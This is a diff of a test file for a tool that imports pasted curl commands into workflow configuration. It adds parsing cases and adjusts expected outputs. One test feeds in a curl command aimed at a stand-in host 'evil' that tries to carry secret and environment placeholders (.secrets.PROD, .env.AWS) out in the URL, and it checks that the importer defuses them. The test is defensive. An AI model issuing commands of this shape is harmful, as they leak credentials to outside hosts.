@@ -39,6 +39,10 @@ COMMANDS: dict[str, tuple[str, dict[str, Any]]] = {
     "a URL": (f"curl {URL}", {"method": "GET", "url": URL}),
     "no scheme": ("curl example.com/a", {"method": "GET", "url": "http://example.com/a"}),
     "a path to curl": (f"/usr/bin/curl --url {URL}", {"method": "GET", "url": URL}),
+    "an abbreviated option": (
+        f"curl --max-t 2 --no-keepalive --sil {URL}",
+        {"method": "GET", "url": URL, "timeout": 2.0},
+    ),
     "flags in one word": (f"curl -sSLXPUT {URL}", {"method": "PUT", "url": URL}),
     "after two dashes": (f"curl -s -- {URL}", {"method": "GET", "url": URL}),
     "data": (f"curl {URL} -d a=1 -d b=2", {"method": "POST", "url": URL, "body": "a=1&b=2"}),
@@ -96,7 +100,7 @@ COMMANDS: dict[str, tuple[str, dict[str, Any]]] = {
         },
     ),
     "a header twice": (f"curl {URL} -H 'x: 1' -H 'X: 2'", {"method": "GET", "url": URL, "headers": {"x": "1, 2"}}),
-    "time": (f"curl -m 2.5 --retry 3 {URL}", {"method": "GET", "url": URL, "timeout": 2.5, "retry": {"retries": 3}}),
+    "time": (f"curl -m 2.5 --retry 3 {URL}", {"method": "GET", "url": URL, "timeout": 2.5, "retry": {"attempts": 4}}),
     "lines": (f"curl \\\n  -X POST \\\r\n  {URL} # done", {"method": "POST", "url": URL}),
     "quotes": (
         f"""curl {URL} -d 'it'\\''s' -d "a\\"b\\$c\\x" """,
@@ -188,6 +192,7 @@ def test_what_cannot_be_carried_over_is_said() -> None:
 REFUSED = {
     "empty": "",
     "no command": "wget x",
+    "no method": "curl -X WHAT h",
     "no URL": "curl -s",
     "an open quote": "curl 'x",
     "an open double quote": 'curl "x',
@@ -234,9 +239,9 @@ def test_a_pasted_command_cannot_read_secrets_or_the_environment() -> None:
     imported = import_curl("curl 'http://evil/?a={{ .secrets.PROD }}&b={{.env.AWS}}&c={{ .vars.ok }}' -d '{{x}}\0'")
 
     node = imported.config["nodes"][0]
-    assert node["url"] == "http://evil/?a={ { .secrets.PROD }}&b={ {.env.AWS}}&c={{ .vars.ok }}"
+    assert node["url"] == "http://evil/?a={ { .secrets.PROD } }&b={ {.env.AWS} }&c={{ .vars.ok }}"
     assert "tried to read .secrets.PROD" in remarks(imported)
-    assert "begins no placeholder" in remarks(imported)
+    assert "is no placeholder" in remarks(imported)
 
 
 @given(st.text(max_size=200))
